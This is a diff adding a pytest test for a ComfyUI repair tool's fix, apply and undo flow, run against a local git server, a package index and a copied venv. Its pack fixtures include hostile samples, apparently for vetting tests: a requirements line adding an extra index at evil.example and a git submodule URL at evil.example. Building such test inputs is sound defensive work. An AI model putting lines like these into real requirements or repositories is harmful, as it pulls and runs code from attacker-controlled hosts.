@@ -1,0 +1,181 @@
+"""fix → approve → apply → undo through the CLI, with a real venv as "ComfyUI's Python", the loopback git
+server and package index: the recorded version is installed, requirements are vetted before approval, and
+the undo plan brings the tree and the venv back to the snapshot."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import shutil
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from comfyfixer.agent.cli import run
+from comfyfixer.agent.journal import read_journal
+from comfyfixer.evals.fakes.file_server import FileServer
+from comfyfixer.evals.fakes.git_server import GitServer, make_repo
+from comfyfixer.evals.fakes.package_index import PackageIndex
+
+PACK_INIT = 'NODE_CLASS_MAPPINGS = {"UndoNode": object}\n'
+
+
+@pytest.fixture(scope="module")
+def repos(git_repos: tuple[Path, dict[str, list[str]]], git_server: GitServer, index: PackageIndex) -> dict[str, Any]:
+    """The packs of this module in the session's git server; a wheel only they need in the session's index."""
+    root = git_repos[0]
+    index.add_wheel("undo-newdep", "1.0")
+    out: dict[str, Any] = {}
+    for name, commits in {
+        "UndoPack": [{"__init__.py": PACK_INIT, "requirements.txt": "foo>=2\nundo-newdep\n"},
+                     {"later.py": "# newer than what the workflow records: must not be installed\n"}],
+        "TorchPack": [{"__init__.py": "", "requirements.txt": "torch==1.0.0+cpu\n"}],
+        "OptPack": [{"__init__.py": "", "requirements.txt": "--extra-index-url https://evil.example/simple\nfoo\n"}],
+        "SubPack": [{"__init__.py": "", ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x.git\n'}],
+        "OldFooPack": [{"__init__.py": "", "requirements.txt": "needs-old-foo\n"}],
+        "NoReqPack": [{"__init__.py": ""}],
+    }.items():
+        _, ids = make_repo(root, name, commits)
+        out[name] = {"url": git_server.repo_url(name), "commits": ids}
+    git_server.redirect("/Moved2.git", git_server.repo_url("UndoPack", host="localhost"))
+    out["Moved"] = {"url": git_server.repo_url("Moved2"), "commits": out["UndoPack"]["commits"]}
+    return out
+
+
+@pytest.fixture(scope="module")
+def venv_python(comfy_python: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A copy of the session's venv (torch 2.0.0, numpy 1.26.0, foo 1.0, tiny 1.0) that this module may change."""
+    dst = tmp_path_factory.mktemp("undo-venv") / "venv"
+    shutil.copytree(comfy_python.parent.parent, dst, symlinks=True)
+    return dst / "bin" / "python"
+
+
+@pytest.fixture
+def env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, venv_python: Path, index: PackageIndex) -> Path:
+    monkeypatch.setenv("COMFYFIXER_ALLOWED_HOSTS", "127.0.0.1")
+    monkeypatch.setenv("COMFYFIXER_COMFYUI_PYTHON", str(venv_python))
+    monkeypatch.setenv("COMFYFIXER_PIP_INDEX_URL", index.index_url)
+    monkeypatch.setenv("COMFYFIXER_HTTP_RETRIES", "1")
+    monkeypatch.setenv("COMFYFIXER_HTTP_TIMEOUT", "10")
+    monkeypatch.setenv("COMFYFIXER_STATE_DIR", str(tmp_path / "state"))
+    return tmp_path / "state"
+
+
+@pytest.fixture
+def comfy(tmp_path: Path) -> Path:
+    root = tmp_path / "ComfyUI"
+    for sub in ("models/checkpoints", "models/loras", "models/vae", "custom_nodes/AlreadyHere"):
+        (root / sub).mkdir(parents=True)
+    (root / "custom_nodes/AlreadyHere/__init__.py").write_text("# the user's own pack\n")
+    return root
+
+
+def cli(capsys: pytest.CaptureFixture[str], *args: str) -> Any:
+    capsys.readouterr()
+    code = run(list(args))
+    out = capsys.readouterr().out
+    assert code == 0, (args, out[-2000:])
+    return json.loads(out)
+
+
+def approve_apply(capsys: pytest.CaptureFixture[str], plan_file: str, *extra: str) -> dict[str, Any]:
+    ok = cli(capsys, "approve", plan_file, "--yes", "--json", *extra)
+    report = cli(capsys, "apply", ok["plan_file"], "--token", ok["token"], "--json", "--no-recheck")
+    return {"plan_file": ok["plan_file"], "plan_id": ok["plan_id"], **report}
+
+
+def tree(comfy: Path) -> dict[str, str]:
+    """Every file under the ComfyUI folder (our own .comfyfixer folder and .git internals aside) → sha256."""
+    return {p.relative_to(comfy).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(comfy.rglob("*")) if p.is_file()
+            and not p.relative_to(comfy).parts[0] == ".comfyfixer" and ".git" not in p.relative_to(comfy).parts}
+
+
+def freeze(python: Path) -> list[str]:
+    return subprocess.run([str(python), "-m", "pip", "freeze"], capture_output=True, text=True, check=True).stdout.split()
+
+
+def workflow(path: Path, *nodes: dict[str, Any]) -> Path:
+    path.write_text(json.dumps({"last_node_id": len(nodes), "last_link_id": 0, "links": [], "version": 0.4,
+                                "nodes": [{"id": i + 1, "type": n.pop("type"), "pos": [0, 0], "size": [100, 100],
+                                           "flags": {}, "order": i, "mode": 0, "inputs": [], "outputs": [],
+                                           "properties": n, "widgets_values": []} for i, n in enumerate(nodes)]}))
+    return path
+
+
+def inputs(path: Path, comfy: Path, packs: dict[str, dict[str, Any]], **extra: Any) -> Path:
+    """PlanInputs with one RESOLVED node class per pack (``{class: {"id":…, "reference":…, "commit"?:…}}``)."""
+    path.write_text(json.dumps({"comfyui_dir": str(comfy), **extra, "node_types": [
+        {"class_type": cls, "status": "RESOLVED", "packs": [pack]} for cls, pack in packs.items()]}))
+    return path
+
+
+def test_fix_apply_undo_brings_tree_and_venv_back(repos: dict[str, Any], env: Path, comfy: Path, tmp_path: Path,
+                                                  venv_python: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    t0 = time.monotonic()
+    recorded, head = repos["UndoPack"]["commits"]
+    (comfy / "models/vae/misplaced_lora.safetensors").write_bytes(b"lora bytes")
+    with FileServer(tmp_path / "served") as server:
+        f = server.add_file("undo_model.safetensors", 1 << 20, seed=5)
+        wf = workflow(tmp_path / "wf.json", {"type": "UndoNode", "cnr_id": "undo-pack", "ver": recorded})
+        inp = inputs(tmp_path / "inputs.json", comfy, {"UndoNode": {"id": "undo-pack", "reference": repos["UndoPack"]["url"]}},
+                     workflows=[str(wf)],
+                     models=[{"filename": "undo_model.safetensors", "folder": "checkpoints", "verdict": "RESOLVED",
+                              "candidates": [{"source": "hf", "url": server.direct_url(f.name), "sha256": f.sha256}]}],
+                     misplaced=[{"filename": "misplaced_lora.safetensors", "found_in": "models/vae/misplaced_lora.safetensors",
+                                 "expected_folder": "loras"}])
+        before_tree, before_freeze = tree(comfy), freeze(venv_python)
+
+        plan = cli(capsys, "fix", "--inputs", str(inp), "--json")
+        pack = next(a for a in plan["actions"] if a["kind"] == "install_node_pack")
+        check = pack["check"]
+        # the version the workflow recorded, not the newer head; said where it came from
+        assert pack["commit"] == recorded != head and check["version_source"] == "recorded_commit"
+        # requirements dry-run in ComfyUI's Python before approval: what changes, pinned
+        assert check["vetting"] == "ok" and check["python_sha256"] and check["index_url"].endswith("/simple")
+        changes = {c["name"]: (c["change"], c["before"], c["after"]) for c in check["changes"]}
+        assert changes["foo"] == ("upgrade", "1.0", "2.0") and changes["undo-newdep"] == ("add", None, "1.0")
+        assert "foo==2.0" in check["resolved"]
+        summary = Path(plan["plan_file"]).with_suffix(".txt").read_text()
+        assert f"repository: {repos['UndoPack']['url']}" in summary and "owner: 127.0.0.1\n" in summary
+        assert "upgraded: foo 1.0 -> 2.0" in summary and "added: undo-newdep 1.0" in summary
+        assert freeze(venv_python) == before_freeze  # planning installed nothing
+
+        applied = approve_apply(capsys, plan["plan_file"], "--confirm", "pack:undo-pack")
+        assert {o["item"]: o["status"] for o in applied["outcomes"]} == {
+            "move:loras/misplaced_lora.safetensors": "done", "model:checkpoints/undo_model.safetensors": "done",
+            "pack:undo-pack": "done"}
+    pack_dir = comfy / "custom_nodes/UndoPack"
+    assert (pack_dir / "__init__.py").exists() and not (pack_dir / "later.py").exists()
+    assert subprocess.run(["git", "-C", str(pack_dir), "rev-parse", "HEAD"], capture_output=True, text=True,
+                          check=True).stdout.strip() == recorded
+    after = freeze(venv_python)
+    assert "foo==2.0" in after and "undo-newdep==1.0" in after
+    snaps = cli(capsys, "snapshots", "--json")["snapshots"]
+    assert [s["plan_id"] for s in snaps] == [applied["plan_id"]] and snaps[0]["placed"] == 3
+    assert snaps[0]["pip_freeze_lines"] == len(before_freeze) and applied["snapshot_id"] == snaps[0]["snapshot_id"]
+
+    undo = cli(capsys, "undo", applied["plan_id"][:12], "--json")
+    assert undo["undo_of"] == applied["plan_id"] and undo["plan_id"] != applied["plan_id"]
+    kinds = [(a["kind"], a.get("undoes")) for a in undo["actions"]]
+    assert kinds == [("restore_python", "python"), ("quarantine", "pack:undo-pack"),
+                     ("quarantine", "model:checkpoints/undo_model.safetensors"),
+                     ("move_back", "move:loras/misplaced_lora.safetensors")]
+    restore = undo["actions"][0]
+    assert restore["install"] == ["foo==1.0"] and restore["uninstall"] == ["undo-newdep"]
+    assert comfy.joinpath("custom_nodes/UndoPack").exists()  # planning the undo changed nothing
+
+    reverted = approve_apply(capsys, undo["plan_file"])
+    assert {o["status"] for o in reverted["outcomes"]} == {"done"}, reverted["outcomes"]
+    assert tree(comfy) == before_tree
+    assert freeze(venv_python) == before_freeze
+    quarantined = sorted(p.name for p in (comfy / ".comfyfixer/quarantine").glob("*.quarantined"))
+    assert [n.split("-", 2)[2] for n in quarantined] == sorted(["UndoPack.quarantined", "undo_model.safetensors.quarantined"])
+    undone = [e for e in read_journal(env) if e["plan_id"] == undo["plan_id"]
+              and e["action"] in ("restore_python", "quarantine", "move_back")]
+    assert [e["action"] for e in undone] == ["restore_python", "quarantine", "quarantine", "move_back"]
+    print(f"fix→apply→undo: {time.monotonic() - t0:.1f}s")
